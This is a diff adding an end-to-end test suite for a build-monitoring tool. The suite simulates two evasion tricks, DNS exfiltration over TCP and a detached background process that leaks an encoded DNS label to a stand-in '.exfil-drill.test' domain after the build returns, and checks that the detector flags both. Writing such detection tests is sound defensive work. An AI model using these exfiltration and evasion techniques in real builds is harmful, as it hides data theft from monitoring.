@@ -1,0 +1,67 @@
+// Ways a build script might slip past: DNS over TCP, and a detached process that leaks after
+// the build's command has returned. Real bpftrace, agent and collector.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import net from 'node:net';
+import { fileURLToPath } from 'node:url';
+import { startDnsServer, type DnsServer } from '../support/dns-server.js';
+import { getJson, runTracked, startAgent, startCollector, type Daemon } from '../support/telltale-procs.js';
+
+const SEND = fileURLToPath(new URL('./send-query.mjs', import.meta.url));
+const LEAK = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2dk.nrxw4zlbmjrwmzjq.exfil-drill.test';
+
+describe('evasion', () => {
+  let dir: string;
+  let dns: DnsServer;
+  let tcp: net.Server;
+  const tcpBytes: Buffer[] = [];
+  let collector: Daemon & { httpUrl: string; grpcAddress: string };
+  let agent: Daemon;
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'telltale-evasion-'));
+    dns = await startDnsServer({ host: '127.0.0.1', port: 0 });
+    // A TCP listener on the same port number: DNS over TCP to the test's own server.
+    tcp = net.createServer((s) => s.on('data', (b) => tcpBytes.push(b)));
+    await new Promise<void>((r) => tcp.listen(dns.port, '127.0.0.1', r));
+    collector = await startCollector(join(dir, 'collector'));
+    agent = await startAgent(join(dir, 'agent'), collector.grpcAddress, [dns.port]);
+  });
+  afterAll(async () => {
+    await agent?.stop();
+    await collector?.stop();
+    await dns?.close();
+    tcp?.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  const alertsOf = async (pipeline: string) =>
+    (await getJson<{ alerts: { kind: string; qname: string; buildId: string }[] }>(`${collector.httpUrl}/api/alerts?pipeline=${pipeline}`)).alerts;
+
+  it('judges a query sent over TCP', async () => {
+    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/tcp', '--fail-on-alert', '--',
+      process.execPath, SEND, 'tcp', String(dns.port), LEAK], process.env);
+    expect(Buffer.concat(tcpBytes).length).toBeGreaterThan(LEAK.length);
+    expect(r.code, r.output).toBe(3);
+    expect((await alertsOf('e2e/tcp')).map((a) => [a.kind, a.qname])).toContainEqual(['encoded_dns_label', LEAK]);
+  });
+
+  it('fails the gate when a process outlives the build, and still reports what it leaks later', async () => {
+    const report = join(dir, 'linger.json');
+    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/linger', '--fail-on-alert', '--report', report, '--',
+      'sh', '-c', `${process.execPath} ${SEND} udp ${dns.port} ${LEAK} 1500 >/dev/null 2>&1 &`], process.env);
+    const verdict = JSON.parse(readFileSync(report, 'utf8')) as { buildId: string; lingeringProcesses: number; alerts: unknown[] };
+    expect(verdict.alerts).toEqual([]);
+    expect(verdict.lingeringProcesses).toBeGreaterThanOrEqual(1);
+    expect(r.code, r.output).toBe(4);
+    const deadline = Date.now() + 10_000;
+    let alerts = await alertsOf('e2e/linger');
+    while (alerts.length === 0 && Date.now() < deadline) {
+      await new Promise((res) => setTimeout(res, 250));
+      alerts = await alertsOf('e2e/linger');
+    }
+    expect(alerts.map((a) => [a.kind, a.buildId])).toContainEqual(['encoded_dns_label', verdict.buildId]);
+  });
+});
